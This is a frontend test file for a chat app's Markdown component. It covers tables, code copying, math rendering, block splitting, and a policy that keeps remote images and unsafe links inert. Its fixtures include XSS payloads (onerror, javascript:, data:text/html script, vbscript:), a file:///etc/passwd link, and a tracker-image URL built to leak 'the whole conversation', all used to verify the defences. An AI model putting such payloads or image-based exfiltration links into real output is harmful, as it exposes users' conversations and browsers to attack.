import { act, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import { I18nextProvider } from "react-i18next";
import { describe, expect, it, vi } from "vitest";
import { FakeTransport, SPECS } from "../../test/fakeTransport";
import { testI18n } from "../../test/i18n";
import { renderWithClient } from "../../test/render";
import { splitBlocks } from "./blocks";
import { Markdown, normalizeMath } from "./Markdown";

const setup = (text: string) => {
  const i18n = testI18n("en");
  const r = render(
    <I18nextProvider i18n={i18n}>
      <Markdown text={text} />
    </I18nextProvider>,
  );
  return {
    ...r,
    update: (next: string) =>
      r.rerender(
        <I18nextProvider i18n={i18n}>
          <Markdown text={next} />
        </I18nextProvider>,
      ),
  };
};

describe("Markdown", () => {
  it("renders GFM tables, task lists and strikethrough", () => {
    setup("| Tool | State |\n| --- | :-: |\n| web_search | done |\n| kb_search | ~~error~~ |\n\n- [x] done\n- [ ] todo");
    const table = screen.getByRole("table");
    expect(within(table).getAllByRole("columnheader").map((h) => h.textContent)).toEqual(["Tool", "State"]);
    expect(within(table).getAllByRole("row")).toHaveLength(3);
    expect(table.querySelector("del")).toHaveTextContent("error");
    expect(screen.getAllByRole("checkbox")).toHaveLength(2);
  });

  it("renders fenced code with its language, highlighting and a copy button that copies the code", async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const { container } = setup("Run:\n\n```go\nfunc main() { fmt.Println(\"hi\") }\n```\n");
    expect(screen.getByText("go")).toBeInTheDocument();
    // highlight.js is loaded lazily; tokens appear once it is there
    await waitFor(() => expect(container.querySelector("code.hljs .hljs-keyword")).toHaveTextContent("func"));
    const copy = screen.getByTestId("code-copy");
    await act(async () => {
      fireEvent.click(copy);
    });
    expect(writeText).toHaveBeenCalledWith('func main() { fmt.Println("hi") }');
    expect(copy).toHaveTextContent("Copied");
  });

  it("renders inline and display math with KaTeX, including \\( \\) and \\[ \\] delimiters", async () => {
    const { container } = setup("Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$\n\nAlso \\(a^2\\) and \\[b^2\\]");
    await waitFor(() => expect(container.querySelectorAll(".katex").length).toBe(4));
    expect(container.querySelectorAll(".katex-display")).toHaveLength(2);
    expect(container.querySelector(".math--inline annotation")).toHaveTextContent("e^{i\\pi} + 1 = 0");
  });

  it("does not render raw HTML or javascript: links", () => {
    const { container } = setup('<img src=x onerror="alert(1)"> [x](javascript:alert(1))');
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("a")?.getAttribute("href") ?? "").not.toContain("javascript");
  });

  it("re-renders only the last block while text streams in", () => {
    const { container, update } = setup("# Title\n\nFirst paragraph.\n\nSecond");
    const first = container.querySelector("h1");
    update("# Title\n\nFirst paragraph.\n\nSecond paragraph grows");
    expect(container.querySelector("h1")).toBe(first); // same DOM node: not re-rendered
    expect(container).toHaveTextContent("Second paragraph grows");
  });
});

describe("splitBlocks", () => {
  it("splits at blank lines outside code fences and $$ math", () => {
    expect(splitBlocks("a\n\nb")).toEqual(["a\n", "b"]);
    expect(splitBlocks("```\nx\n\ny\n```\n\nz")).toEqual(["```\nx\n\ny\n```\n", "z"]);
    expect(splitBlocks("$$\na\n\nb\n$$\n\nc")).toEqual(["$$\na\n\nb\n$$\n", "c"]);
    expect(splitBlocks("```js\nunclosed\n\nstill code")).toEqual(["```js\nunclosed\n\nstill code"]);
  });

  it("keeps indented continuations with their block and does not split reference definitions", () => {
    expect(splitBlocks("1. item\n\n    more of it\n\nnext")).toEqual(["1. item\n\n    more of it\n", "next"]);
    const refs = "see [a][1]\n\n[1]: https://example.com";
    expect(splitBlocks(refs)).toEqual([refs]);
  });

  it("joins back to the original text", () => {
    const text = "# h\n\npara\n\n```\ncode\n\nmore\n```\n\n- a\n- b\n\n  cont\n\nend";
    expect(splitBlocks(text).join("\n")).toBe(text);
  });
});

describe("normalizeMath", () => {
  it("rewrites \\( \\) and \\[ \\] outside code only", () => {
    expect(normalizeMath("x \\(a\\) y")).toBe("x $a$ y");
    expect(normalizeMath("`\\(a\\)`")).toBe("`\\(a\\)`");
  });
});

describe("Markdown: remote images and links", () => {
  const PIXEL = "data:image/png;base64,iVBORw0KGgo=";
  const LEAK = "http://tracker.example/pixel.png?leak=the%20whole%20conversation";

  function withBackend(hosts = "", fetchImage?: (url: unknown) => unknown) {
    const settings = { values: { "chat.imageHosts": hosts } as Record<string, unknown> };
    const transport = new FakeTransport({
      GetSettings: () => ({ seq: 1, values: { ...settings.values }, specs: SPECS }),
      SetSetting: (key, value) => {
        settings.values[key as string] = value;
        return { seq: 2, values: { ...settings.values }, specs: SPECS };
      },
      FetchImage: fetchImage ?? ((url) => ({ url, contentType: "image/png", size: 8, dataUrl: PIXEL })),
    });
    return { transport, settings };
  }

  /** No element of the DOM points anywhere but at data: (what the policy allows besides the app's own files). */
  function remoteSources(root: HTMLElement): string[] {
    return [...root.querySelectorAll("[src], [srcset], [poster]")]
      .flatMap((el) => ["src", "srcset", "poster"].map((a) => el.getAttribute(a) ?? ""))
      .filter((v) => v && !v.startsWith("data:"));
  }

  it("shows a remote image as a placeholder with its host, with no image element, even without a client", () => {
    const { container } = setup(`Look: ![chart](${LEAK}) and ![rel](pixel.png) and ![js](javascript:alert(1))`);
    expect(container.querySelector("img")).toBeNull();
    expect(remoteSources(container)).toEqual([]);
    const inert = screen.getAllByTestId("md-image-inert");
    expect(inert.map((e) => e.textContent)).toEqual(["chart", "rel", "js"]);
  });

  it("loads a remote image through the backend only on a click, as a data: URL", async () => {
    const { transport } = withBackend();
    const { container } = renderWithClient(<Markdown text={`![chart](${LEAK})`} />, { transport, ready: null });
    const placeholder = await screen.findByTestId("md-image-placeholder");
    expect(placeholder).toHaveAttribute("data-host", "tracker.example");
    expect(placeholder).toHaveTextContent("from tracker.example");
    expect(placeholder).toHaveAttribute("title", LEAK); // the whole address, query and all
    expect(container.querySelector("img")).toBeNull();
    expect(transport.count("FetchImage")).toBe(0);
    fireEvent.click(screen.getByTestId("md-image-load"));
    const img = await screen.findByTestId("md-image");
    expect(img).toHaveAttribute("src", PIXEL);
    expect(img).toHaveAttribute("alt", "chart");
    expect(transport.calls.filter((c) => c.method === "FetchImage").map((c) => c.args)).toEqual([[LEAK]]);
    expect(remoteSources(container)).toEqual([]);
  });

  it("'always for this host' stores the host and later images from it load by themselves", async () => {
    const { transport, settings } = withBackend("cdn.example");
    renderWithClient(<Markdown text={`![a](${LEAK})\n\n![b](https://cdn.example/b.png)`} />, { transport, ready: null });
    await waitFor(() => expect(screen.getByTestId("md-image")).toHaveAttribute("src", PIXEL)); // cdn.example: no click
    expect(transport.calls.filter((c) => c.method === "FetchImage").map((c) => c.args[0])).toEqual(["https://cdn.example/b.png"]);
    fireEvent.click(screen.getByTestId("md-image-always"));
    await waitFor(() => expect(screen.getAllByTestId("md-image")).toHaveLength(2));
    expect(settings.values["chat.imageHosts"]).toBe("cdn.example tracker.example");
  });

  it("shows why an image was not loaded", async () => {
    const { transport } = withBackend("", () => {
      throw { code: "image_address_refused", i18nKey: "errors.image_address_refused", params: { host: "tracker.example" }, message: "refused" };
    });
    renderWithClient(<Markdown text={`![chart](${LEAK})`} />, { transport, ready: null });
    fireEvent.click(await screen.findByTestId("md-image-load"));
    expect(await screen.findByTestId("md-image-error")).toHaveTextContent("tracker.example was not loaded");
    expect(screen.queryByTestId("md-image")).toBeNull();
  });

  it("keeps javascript:, data:, file: and relative links inert; http(s) and mailto links open outside", () => {
    const { container } = setup(
      "[a](javascript:alert(1)) [b](data:text/html,<script>x</script>) [c](file:///etc/passwd) [d](vbscript:x) [e](../settings) [f](https://example.com/x) [g](mailto:a@example.com) <javascript:alert(2)>",
    );
    const hrefs = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.com/x", "mailto:a@example.com"]);
    expect(screen.getAllByTestId("md-link-inert").map((e) => e.textContent)).toEqual(["a", "b", "c", "d", "e", "javascript:alert(2)"]);
    for (const a of container.querySelectorAll("a")) {
      expect(a).toHaveAttribute("target", "_blank");
      expect(a.getAttribute("rel")).toContain("noopener");
    }
  });

  it("an image inside a link loads on its button without following the link", async () => {
    const { transport } = withBackend();
    const { client } = renderWithClient(<Markdown text={`[![chart](${LEAK})](https://example.com/page)`} />, { transport, ready: null });
    const prepare = vi.spyOn(client.browser, "prepare");
    fireEvent.click(await screen.findByTestId("md-image-load"));
    expect(await screen.findByTestId("md-image")).toHaveAttribute("src", PIXEL);
    expect(prepare).not.toHaveBeenCalled();
  });

  it("opens a followed link through the browser API, not in the window", async () => {
    const { transport } = withBackend();
    const open = vi.fn();
    const { client } = renderWithClient(<Markdown text="[site](https://example.com/page)" />, { transport, ready: null });
    const prepare = vi.spyOn(client.browser, "prepare").mockReturnValue({ show: (u) => (open(u), true), discard: () => {} });
    const link = screen.getByRole("link", { name: "site" });
    const ev = new MouseEvent("click", { bubbles: true, cancelable: true, button: 0 });
    link.dispatchEvent(ev);
    expect(ev.defaultPrevented).toBe(true);
    expect(prepare).toHaveBeenCalledOnce();
    expect(open).toHaveBeenCalledWith("https://example.com/page");
  });
});
